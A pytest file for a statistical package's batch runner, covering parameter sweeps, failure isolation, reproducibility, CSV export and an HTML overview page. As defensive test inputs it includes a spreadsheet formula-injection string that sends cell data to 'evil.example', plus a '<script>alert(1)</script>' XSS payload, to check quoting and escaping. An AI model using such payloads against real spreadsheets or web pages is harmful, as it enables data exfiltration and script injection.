"""Batch runs on a dask.distributed LocalCluster: parallel runs, sweeps, failure isolation, overview."""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import pytest
import yaml
from support import small_params

from subgroups.batch import expand, run_batch, spreadsheet_safe
from subgroups.errors import ParameterError
from subgroups.params import load_params


def _write(tmp_path: Path, name: str, tree: dict) -> Path:
    path = tmp_path / f"{name}.yaml"
    path.write_text(yaml.safe_dump(tree, sort_keys=False))
    return path


def test_sweeps_expand_and_single_runs_refuse_them(small_csv: Path, tmp_path: Path):
    tree = small_params(small_csv, name="swept")
    tree["sweep"] = {"estimation.seed": [1, 2]}
    path = _write(tmp_path, "swept", tree)
    specs = expand([path])
    assert [s.name for s in specs] == ["swept-seed-1", "swept-seed-2"]
    assert load_params(specs[1].params_file, specs[1].overrides, allow_sweep=True).estimation.seed == 2
    with pytest.raises(ParameterError, match="subgroups batch"):
        load_params(path)
    with pytest.raises(ParameterError, match="both named"):
        expand([path, path])


def test_sweep_values_that_cannot_name_a_folder_are_numbered(small_csv: Path, tmp_path: Path):
    """A swept list or rule ("['age >= 65']") in the run name failed every run with an error about a 'name' the user
    never wrote; such values are numbered by their place in the list, and the values go to summary and index."""
    from subgroups.batch import RUN_NAME_LIMIT, batch_index, run_one

    tree = small_params(small_csv, name="sw")
    tree["sweep"] = {
        "subgroups.prespecified": [["age >= 65"], ["smoking in [never, former]"]],
        "heterogeneity.alpha": [0.05, 0.1],
    }
    specs = expand([_write(tmp_path, "sw", tree)])
    assert [s.name for s in specs] == ["sw-prespecified-1-alpha-0.05", "sw-prespecified-1-alpha-0.1", "sw-prespecified-2-alpha-0.05",
                                       "sw-prespecified-2-alpha-0.1"]  # fmt: skip
    read = load_params(specs[2].params_file, specs[2].overrides, allow_sweep=True)
    assert read.name == "sw-prespecified-2-alpha-0.05" and read.subgroups.prespecified == ["smoking in [never, former]"]
    long = small_params(small_csv, name="x" * 70)  # "x…x-seed-11-folds-3" would be 86 characters
    long["sweep"] = {"estimation.seed": [11, 12], "estimation.folds": [3, 4]}
    assert [s.name for s in expand([_write(tmp_path, "long", long)])] == [f"{'x' * 70}-{i}-{j}" for i in (1, 2) for j in (1, 2)]
    longest = small_params(small_csv, name="x" * (RUN_NAME_LIMIT - 1))
    longest["sweep"] = {"estimation.seed": [11, 12]}
    with pytest.raises(ParameterError, match="leaves no room for the sweep's run names"):
        expand([_write(tmp_path, "longest", longest)])
    record = run_one(specs[0].__class__(specs[0].params_file, {**specs[0].overrides, "data.source": str(tmp_path / "gone.csv")},
                                        specs[0].name), str(tmp_path / "runs"))  # fmt: skip
    assert record["status"] == "failed"
    assert record["sweep"].startswith("subgroups.prespecified = ['age >= 65']; heterogeneity.alpha = 0.05")
    page = batch_index(pd.DataFrame([record]))
    assert "<th>swept values</th>" in page and "subgroups.prespecified = [&#39;age &gt;= 65&#39;]" in page


@pytest.mark.parametrize(
    ("sweep", "message"),
    [
        ({"estimation.seed": [1, 2, 1]}, "sweep 'estimation.seed' lists 1 twice"),
        ({"heterogeneity.alpha": [0.05, 0.050]}, "lists 0.05 twice"),
        ({"name": ["a", "b"]}, "'sweep' cannot vary 'name'"),
        ({"estimation.seed": []}, "must map dotted keys to non-empty lists"),
    ],
)
def test_sweeps_that_would_repeat_or_rename_runs_are_refused(small_csv: Path, tmp_path: Path, sweep, message):
    tree = small_params(small_csv, name="sw")
    tree["sweep"] = sweep
    with pytest.raises(ParameterError, match=message.replace("(", r"\(").replace("[", r"\[")):
        expand([_write(tmp_path, "sw", tree)])


def test_an_unreachable_scheduler_is_one_line(small_csv: Path, tmp_path: Path):
    from subgroups.errors import RunError

    path = _write(tmp_path, "one", small_params(small_csv, name="one"))
    with pytest.raises(RunError, match=r"cannot connect to the Dask scheduler at 'no-port' \(.*\); check the address"):
        run_batch([path], out_dir=tmp_path / "runs", scheduler="no-port", progress=False)


@pytest.mark.slow
def test_batch_on_a_local_cluster_isolates_failures_and_matches_one_worker(small_csv: Path, tmp_path: Path):
    good = _write(tmp_path, "good", small_params(small_csv, name="good"))
    bad_tree = small_params(small_csv, name="bad")
    bad_tree["data"]["outcome"] = {"column": "no_such_column", "type": "continuous"}
    bad = _write(tmp_path, "bad", bad_tree)
    hostile = _write(tmp_path, "hostile", small_params(small_csv, name=HOSTILE_NAME))  # an invalid name: the run fails
    summary = run_batch([good, bad, hostile], out_dir=tmp_path / "runs", workers=2, progress=False)
    assert list(summary["name"]) == ["good", "bad", HOSTILE_NAME]
    statuses = dict(zip(summary["name"], summary["status"]))
    assert statuses == {"good": "succeeded", "bad": "failed", HOSTILE_NAME: "failed"}
    assert "no_such_column" in summary.set_index("name").loc["bad", "reason"]
    assert (tmp_path / "runs" / "good" / "index.html").is_file()
    assert not (tmp_path / "runs" / "bad" / "index.html").exists()
    overview = (tmp_path / "runs" / "index.html").read_text()
    assert 'href="good/index.html"' in overview and "2 failed" in overview
    written = pd.read_csv(tmp_path / "runs" / "summary.csv")
    assert written.shape[0] == 3
    assert list(written["name"]) == ["good", "bad", "'" + HOSTILE_NAME]  # a spreadsheet shows it as text, never runs it
    assert written.loc[0, "effect"] == pytest.approx(summary.loc[0, "effect"])  # numbers stay numbers, negative ones too
    # The same run on one worker gives the same results.json (seeded; nothing depends on the worker).
    run_batch([good], out_dir=tmp_path / "one_worker", workers=1, progress=False)
    texts = []
    for out in (tmp_path / "runs", tmp_path / "one_worker"):
        results = json.loads((out / "good" / "results.json").read_text())
        results["provenance"].pop("generated_at")
        texts.append(json.dumps(results, sort_keys=True))
    assert texts[0] == texts[1]


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_summary_cells_that_a_spreadsheet_would_run_start_with_a_quote():
    frame = pd.DataFrame(
        {
            "name": ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "ok-run", "a=b"],
            "effect": [-0.5, 0.1, -2.0, 0.0, 1.0, 2.0, 3.0, 4.0],
            "reason": ["-o is wrong", "", None, "fine", "x", "y", "z", "w"],
        }
    )
    safe = spreadsheet_safe(frame)
    assert list(safe["name"]) == ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "ok-run", "a=b"]
    assert list(safe["reason"][:2]) == ["'-o is wrong", ""] and safe["reason"][2] is None
    assert list(safe["effect"]) == [-0.5, 0.1, -2.0, 0.0, 1.0, 2.0, 3.0, 4.0]
    assert frame.loc[0, "name"] == "=1+1"  # a copy: the returned summary keeps the raw values


def test_a_failed_run_records_whether_it_was_a_user_mistake(small_csv: Path, tmp_path: Path):
    """A typo in a parameter file fails its run as a user error (the batch then exits 2, as one run would)."""
    from subgroups.batch import RunSpec, run_one

    tree = small_params(small_csv, name="typo")
    tree["estimation"]["sead"] = 3
    record = run_one(RunSpec(str(_write(tmp_path, "typo", tree)), {}, "typo"), str(tmp_path / "runs"))
    assert record["status"] == "failed" and record["user_error"] is True and "sead" in record["reason"]


def test_the_batch_index_links_succeeded_runs_states_each_ci_level_and_escapes_reasons():
    from subgroups.batch import batch_index

    summary = pd.DataFrame(
        [
            {"name": "good", "status": "succeeded", "effect": 0.31, "ci_low": 0.12, "ci_high": 0.5, "ci_level": 0.9,
             "heterogeneity_p": 0.004, "heterogeneity_detected": True, "recommended_design": "all_comers", "reason": ""},
            {"name": "bad", "status": "failed", "effect": float("nan"), "ci_low": float("nan"), "ci_high": float("nan"),
             "heterogeneity_p": float("nan"), "reason": "column '<script>alert(1)</script>' not found"},
        ]
    )  # fmt: skip
    page = batch_index(summary)
    assert "<h1>Batch of 2 runs (1 failed)</h1>" in page
    assert '<a href="good/index.html">good</a>' in page and 'href="bad/' not in page
    assert "+0.31 (90% CI 0.12 to 0.5)" in page and "p = 0.004 (detected)" in page and "all comers" in page
    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
